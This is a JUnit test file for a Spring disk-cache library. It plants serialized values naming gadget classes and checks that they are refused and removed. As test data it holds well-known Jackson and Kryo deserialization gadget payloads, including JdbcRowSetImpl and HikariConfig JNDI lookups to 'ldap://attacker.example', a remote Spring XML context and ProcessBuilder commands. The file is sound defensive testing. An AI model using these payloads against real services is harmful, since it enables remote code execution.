package org.sciqlop.cache.spring;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.sciqlop.cache.core.DiskCache;
import org.sciqlop.cache.gadget.Gadget;

import org.springframework.boot.test.system.CapturedOutput;
import org.springframework.boot.test.system.OutputCaptureExtension;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A cache database planted with values naming gadget classes outside the serializers'
 * allow-lists (issue 9, "Hostile input"): the payload is never instantiated, the read is a miss
 * with one warning, and the entry is removed. {@link Gadget} counts what is done to it; the
 * well-known gadgets of Jackson exploits are planted by name too, as JSON and as Kryo bytes (issue 13:
 * the gadget tests hold for every serializer).
 */
@ExtendWith(OutputCaptureExtension.class)
class PlantedPayloadTests {

	/** The adapter's header byte of a value stored uncompressed, before the serializer's bytes. */
	private static final byte FORMAT_PLAIN = 1;

	private static final List<String> ALLOWED = List.of("org.sciqlop.cache.spring");

	@TempDir
	Path directory;

	private SciqlopCacheManager manager;

	@AfterEach
	void close() {
		if (this.manager != null) {
			this.manager.destroy();
		}
	}

	@Test
	void jsonPayloadNamingAGadgetShouldNeverBeInstantiatedAndReadAsAMissThatRemovesIt(CapturedOutput output) {
		SciqlopCache cache = cache(new JacksonValueSerializer(ALLOWED, null));
		String gadget = Gadget.class.getName();
		int constructed = Gadget.CONSTRUCTED.get();
		int set = Gadget.PROPERTIES_SET.get();
		List<String> payloads = List.of("{\"@class\":\"" + gadget + "\",\"command\":\"touch /tmp/pwned\"}",
				"[\"" + gadget + "\",{\"command\":\"touch /tmp/pwned\"}]",
				"{\"@class\":\"java.util.ArrayList\",\"x\":[{\"@class\":\"" + gadget + "\",\"command\":\"x\"}]}",
				"[\"java.util.ArrayList\",[{\"@class\":\"" + gadget + "\",\"command\":\"x\"}]]",
				"{\"@class\":\"java.util.HashMap\",\"k\":{\"@class\":\"" + gadget + "\",\"command\":\"x\"}}",
				"{\"@class\":\"[L" + gadget + ";\"}");
		for (String payload : payloads) {
			plant(cache, "victim", json(payload));
			assertThat(cache.get("victim")).as(payload).isNull();
			assertThat(cache.getNativeCache().contains(storeKey("victim"))).as("removed: %s", payload).isFalse();
		}
		assertThat(Gadget.CONSTRUCTED.get()).as("gadgets constructed").isEqualTo(constructed);
		assertThat(Gadget.PROPERTIES_SET.get()).as("gadget properties set").isEqualTo(set);
		assertThat(output).containsOnlyOnce("found a stored value it cannot read");
		// the key is usable again: the next load stores a real value
		assertThat(cache.get("victim", () -> "computed")).isEqualTo("computed");
		assertThat(cache.get("victim", String.class)).isEqualTo("computed");
	}

	@Test
	void jsonPayloadsNamingWellKnownGadgetsShouldReadAsMissesThatRemoveThem() {
		SciqlopCache cache = cache(new JacksonValueSerializer(ALLOWED, null));
		List<String> payloads = List.of(
				"{\"@class\":\"org.springframework.context.support.ClassPathXmlApplicationContext\","
						+ "\"configLocation\":\"http://attacker.example/spel.xml\"}",
				"[\"org.springframework.context.support.ClassPathXmlApplicationContext\","
						+ "\"http://attacker.example/spel.xml\"]",
				"{\"@class\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/x\","
						+ "\"autoCommit\":true}",
				"[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example/x\","
						+ "\"autoCommit\":true}]",
				"{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"touch\",\"/tmp/pwned\"]}",
				"{\"@class\":\"javax.script.ScriptEngineManager\"}",
				"{\"@class\":\"com.zaxxer.hikari.HikariConfig\",\"metricRegistry\":\"ldap://attacker.example/x\"}",
				"{\"@class\":\"ch.qos.logback.core.db.JNDIConnectionSource\",\"jndiLocation\":\"ldap://x/y\"}");
		for (String payload : payloads) {
			plant(cache, "victim", json(payload));
			assertThat(cache.get("victim")).as(payload).isNull();
			assertThat(cache.getNativeCache().contains(storeKey("victim"))).as("removed: %s", payload).isFalse();
		}
	}

	@Test
	void jdkSerializedGadgetShouldBeRefusedBeforeItIsReadAndReadAsAMissThatRemovesIt() throws IOException {
		SciqlopCache cache = cache(new JdkValueSerializer(ALLOWED, null));
		int deserialized = Gadget.DESERIALIZED.get();
		int constructed = Gadget.CONSTRUCTED.get();
		Gadget gadget = new Gadget();
		gadget.setCommand("touch /tmp/pwned");
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		bytes.write(FORMAT_PLAIN);
		try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
			out.writeObject(List.of("harmless", gadget));
		}
		plant(cache, "victim", bytes.toByteArray());
		assertThat(cache.get("victim")).isNull();
		assertThat(cache.getNativeCache().contains(storeKey("victim"))).isFalse();
		assertThat(Gadget.DESERIALIZED.get()).as("gadgets deserialized").isEqualTo(deserialized);
		assertThat(Gadget.CONSTRUCTED.get()).as("gadgets constructed, the test's own aside").isEqualTo(constructed + 1);
	}

	@Test
	void kryoPayloadNamingAGadgetShouldNeverBeInstantiatedAndReadAsAMissThatRemovesIt(CapturedOutput output) {
		SciqlopCache cache = cache(new KryoValueSerializer(ALLOWED, null));
		// bytes as a permissive Kryo would write them, gadget at the top, nested, and as an array
		KryoValueSerializer permissive = new KryoValueSerializer(List.of("org.sciqlop.cache"), null);
		Gadget gadget = new Gadget();
		gadget.setCommand("touch /tmp/pwned");
		List<byte[]> payloads = List.of(permissive.serialize(gadget),
				permissive.serialize(new java.util.ArrayList<>(List.of("harmless", gadget))),
				permissive.serialize(new java.util.HashMap<>(java.util.Map.of("k", gadget))),
				permissive.serialize(new Gadget[] { gadget }));
		int constructed = Gadget.CONSTRUCTED.get();
		int set = Gadget.PROPERTIES_SET.get();
		int deserialized = Gadget.DESERIALIZED.get();
		for (byte[] payload : payloads) {
			plant(cache, "victim", withFormat(payload));
			assertThat(cache.get("victim")).isNull();
			assertThat(cache.getNativeCache().contains(storeKey("victim"))).as("removed").isFalse();
		}
		assertThat(Gadget.CONSTRUCTED.get()).as("gadgets constructed").isEqualTo(constructed);
		assertThat(Gadget.PROPERTIES_SET.get()).as("gadget properties set").isEqualTo(set);
		assertThat(Gadget.DESERIALIZED.get()).as("gadgets deserialized").isEqualTo(deserialized);
		assertThat(output).containsOnlyOnce("found a stored value it cannot read");
		assertThat(cache.get("victim", () -> "computed")).isEqualTo("computed");
	}

	@Test
	void kryoPayloadsNamingWellKnownGadgetsShouldReadAsMissesThatRemoveThem() {
		SciqlopCache cache = cache(new KryoValueSerializer(ALLOWED, null));
		List<String> gadgets = List.of("org.springframework.context.support.ClassPathXmlApplicationContext",
				"com.sun.rowset.JdbcRowSetImpl", "java.lang.ProcessBuilder", "javax.script.ScriptEngineManager",
				"com.zaxxer.hikari.HikariConfig", "ch.qos.logback.core.db.JNDIConnectionSource",
				"java.util.PriorityQueue", "[Lcom.sun.rowset.JdbcRowSetImpl;");
		for (String gadget : gadgets) {
			plant(cache, "victim", withFormat(kryoNaming(gadget)));
			assertThat(cache.get("victim")).as(gadget).isNull();
			assertThat(cache.getNativeCache().contains(storeKey("victim"))).as("removed: %s", gadget).isFalse();
		}
	}

	/**
	 * Kryo bytes that name a class, as Kryo's {@code DefaultClassResolver#writeName} writes an
	 * unregistered class: our format byte 0, the tag NAME + 2, a name id, the class name; then
	 * whatever the attacker's fields would be.
	 */
	private static byte[] kryoNaming(String className) {
		com.esotericsoftware.kryo.io.Output out = new com.esotericsoftware.kryo.io.Output(64, -1);
		out.writeByte(0);
		out.writeVarInt(1, true);
		out.writeVarInt(0, true);
		out.writeString(className);
		out.writeVarInt(1, true);
		out.writeString("touch /tmp/pwned");
		return out.toBytes();
	}

	private static byte[] withFormat(byte[] body) {
		byte[] bytes = new byte[body.length + 1];
		bytes[0] = FORMAT_PLAIN;
		System.arraycopy(body, 0, bytes, 1, body.length);
		return bytes;
	}

	private SciqlopCache cache(ValueSerializer serializer) {
		this.manager = SciqlopCacheManager.builder(this.directory)
			.cacheDefaults(SciqlopCacheConfiguration.defaults().serializer(serializer))
			.engineCustomizer((engine) -> engine.maintenanceInterval(Duration.ZERO))
			.build();
		this.manager.afterPropertiesSet();
		return (SciqlopCache) this.manager.getCache("planted");
	}

	/**
	 * Writes raw bytes under the stored key of {@code key} into the cache's database, through an
	 * engine of its own, as another process with write access to the cache folder could.
	 */
	private static void plant(SciqlopCache cache, String key, byte[] bytes) {
		try (DiskCache intruder = DiskCache.builder(cache.getNativeCache().directory()).open()) {
			intruder.set(storeKey(key), bytes);
		}
	}

	private static String storeKey(Object key) {
		return CacheKeyMapper.getInstance().toStoreKey(key);
	}

	private static byte[] json(String payload) {
		byte[] body = payload.getBytes(StandardCharsets.UTF_8);
		byte[] bytes = new byte[body.length + 1];
		bytes[0] = FORMAT_PLAIN;
		System.arraycopy(body, 0, bytes, 1, body.length);
		return bytes;
	}

}
